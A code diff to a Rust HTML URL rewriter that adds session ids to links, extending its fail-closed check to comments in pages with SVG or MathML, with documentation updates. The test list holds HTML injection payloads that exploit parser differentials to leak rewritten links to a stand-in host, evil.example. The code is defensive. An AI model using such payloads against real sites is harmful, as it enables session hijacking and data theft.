@@ -9,7 +9,7 @@ use std::sync::{Arc, Mutex, PoisonError};
 
 use lol_html::html_content::{ContentType, TextChunk, TextType};
 use lol_html::send::{Element, HtmlRewriter, Settings};
-use lol_html::{HandlerResult, MemorySettings, doc_text, element};
+use lol_html::{HandlerResult, MemorySettings, doc_comments, doc_text, element};
 use url::Url;
 
 use crate::session::error::{Error, Result};
@@ -164,14 +164,15 @@ fn misreadable_bytes(body: &[u8]) -> Option<&'static str> {
 /// Watches the text of a page for markup that this parser read as text while a browser may
 /// read it as tags: a `<` followed by a letter, `/`, `!` or `?` in a CDATA section, in the
 /// raw text of `<style>`, `<noscript>`, `<iframe>`, `<xmp>`, `<noembed>`, `<noframes>`, in
-/// the text of `<title>` or `<textarea>`, or after `<plaintext>` — and in a script once the
-/// page has opened `<svg` or `<math` (a `<script>` there is an SVG element whose content is
-/// markup). Whether such text is text depends on the parser's view of the tree (SVG or
-/// MathML around it, scripts on or off, `<select>`), which tokenizers — a browser's own
-/// preload scanner included — do not all share; a tag one of them opens there can hold the
-/// rewritten links that follow inside one of its attributes (`<img src='//elsewhere/?…`) or
-/// set the page's base. Scripts of pages without SVG or MathML are not watched: every
-/// parser reads them as scripts, and they routinely build markup in strings.
+/// the text of `<title>` or `<textarea>`, or after `<plaintext>` — and, once the page has
+/// opened `<svg` or `<math`, in scripts (a `<script>` there is an SVG element whose content
+/// is markup) and comments. Whether such text is text depends on the parser's view of the
+/// tree (SVG or MathML around it, scripts on or off, `<select>`), which tokenizers — a
+/// browser's own preload scanner included — do not all share; a tag one of them opens there
+/// can hold the rewritten links that follow inside one of its attributes
+/// (`<img src='//elsewhere/?…`) or set the page's base. Scripts and comments of pages
+/// without SVG or MathML are not watched: every parser reads them alike, and they routinely
+/// hold markup.
 #[derive(Debug, Default)]
 struct TextWatch {
     /// The last character of the text node so far was a `<`.
@@ -204,17 +205,35 @@ impl TextWatch {
             TextType::ScriptData => self.foreign,
             TextType::Data => false,
         };
-        if watched && !self.found {
-            for b in chunk.as_str().bytes() {
-                if self.after_lt && (b.is_ascii_alphabetic() || matches!(b, b'/' | b'!' | b'?')) {
-                    self.found = true;
-                    break;
-                }
-                self.after_lt = b == b'<';
-            }
+        if watched {
+            self.scan(chunk.as_str());
         }
         if !watched || chunk.last_in_text_node() {
             self.after_lt = false;
+        }
+    }
+
+    /// A comment, watched in pages with SVG or MathML: where this parser and a browser
+    /// disagree about being in foreign content, one may read `<!--` inside a `<style>` as the
+    /// start of a comment and the other as text, and the comment hides from this parser a
+    /// tag the browser reads.
+    fn comment(&mut self, text: &str) {
+        if self.foreign {
+            self.scan(text);
+            self.after_lt = false;
+        }
+    }
+
+    fn scan(&mut self, text: &str) {
+        if self.found {
+            return;
+        }
+        for b in text.bytes() {
+            if self.after_lt && (b.is_ascii_alphabetic() || matches!(b, b'/' | b'!' | b'?')) {
+                self.found = true;
+                return;
+            }
+            self.after_lt = b == b'<';
         }
     }
 }
@@ -358,17 +377,17 @@ impl UrlRewriter {
     ///
     /// **Fails closed.** An HTML tokenizer and a browser can disagree about what is markup
     /// (CDATA in SVG or MathML, `<noscript>` with scripts off, a browser's preload scanner),
-    /// and a tag only the browser sees can set the page's base or hold the rewritten links
-    /// that follow inside one of its attributes. So the page is not rewritten at all — it
-    /// comes back as [`Error::Html`], to be served as it was, without ids — when its raw
-    /// bytes hold a `<base` (any case) that the parser did not see as a `base` tag (in text,
-    /// a comment, a script, an attribute), when text that the parser read as text holds
-    /// markup (a `<` followed by a letter, `/`, `!` or `?` in CDATA, `<style>`, `<noscript>`,
-    /// `<iframe>`, `<xmp>`, `<noembed>`, `<noframes>`, `<textarea>`, `<title>`, after
-    /// `<plaintext>`, and in scripts of a page that has `<svg` or `<math`), or when a browser
-    /// may decode the bytes otherwise (a UTF-16 byte order mark, NUL or ESC bytes). Such
-    /// pages are rare in applications that escape what they print; a visitor without cookies
-    /// who follows a link from one starts a new session.
+    /// and a tag only the browser sees can set the page's base or hold the rewritten links that
+    /// follow inside one of its attributes. So the page is not rewritten at all — it comes back
+    /// as [`Error::Html`], to be served as it was, without ids — when its raw bytes hold a
+    /// `<base` (any case) that the parser did not see as a `base` tag (in text, a comment, a
+    /// script, an attribute), when text that the parser read as text holds markup (a `<`
+    /// followed by a letter, `/`, `!` or `?` in CDATA, `<style>`, `<noscript>`, `<iframe>`,
+    /// `<xmp>`, `<noembed>`, `<noframes>`, `<textarea>`, `<title>`, after `<plaintext>`, and in
+    /// scripts and comments of a page that has `<svg` or `<math`), or when a browser may decode
+    /// the bytes otherwise (a UTF-16 byte order mark, NUL or ESC bytes). Such pages are rare in
+    /// applications that escape what they print; a visitor without cookies who follows a link
+    /// from one starts a new session.
     ///
     /// The body is read as UTF-8 (bytes that are not pass through untouched). Everything
     /// other than the rewritten attributes is copied as it was.
@@ -412,6 +431,14 @@ impl UrlRewriter {
             .append_element_content_handler(handler)
             .append_document_content_handler(doc_text!(|t| {
                 watch.lock().unwrap_or_else(PoisonError::into_inner).feed(t);
+                Ok(())
+            }))
+            .append_document_content_handler(doc_comments!(|c| {
+                let text = c.text();
+                watch
+                    .lock()
+                    .unwrap_or_else(PoisonError::into_inner)
+                    .comment(&text);
                 Ok(())
             }))
             .with_memory_settings(
@@ -599,6 +626,16 @@ impl PageRewrite {
                 .feed(t);
             Ok(())
         });
+        let comment_state = Arc::clone(&state);
+        let on_comment = doc_comments!(move |c| {
+            let text = c.text();
+            comment_state
+                .lock()
+                .unwrap_or_else(PoisonError::into_inner)
+                .watch
+                .comment(&text);
+            Ok(())
+        });
         let (urls, document, id) = (self.urls.clone(), self.document.clone(), self.id);
         let link_state = Arc::clone(&state);
         let on_link = element!(SELECTOR, move |el| {
@@ -613,6 +650,7 @@ impl PageRewrite {
             .append_element_content_handler(in_template)
             .append_element_content_handler(on_link)
             .append_document_content_handler(on_text)
+            .append_document_content_handler(on_comment)
             .with_memory_settings(
                 MemorySettings::new().with_max_allowed_memory_usage(HTML_MEMORY_LIMIT),
             );
@@ -869,6 +907,10 @@ mod tests {
             r#"<plaintext><img src='//evil.example/x?"#,
             // A script in a page with SVG or MathML may be an SVG element, its text markup.
             r#"<math></math><script>var s = '<b>';</script>"#,
+            // ... and a comment there may be text to a browser (a foreign <style> to one, an
+            // HTML one to the other).
+            r#"<svg><font color=x><style><!--</style><img src='//evil.example/x?-->"#,
+            r#"<svg></svg><!-- <img src='//evil.example/x? -->"#,
             r#"<script>var s = '<b>';</script><SVG></SVG>"#,
         ] {
             for html in [format!("{attack}{links}"), format!("{links}{attack}")] {
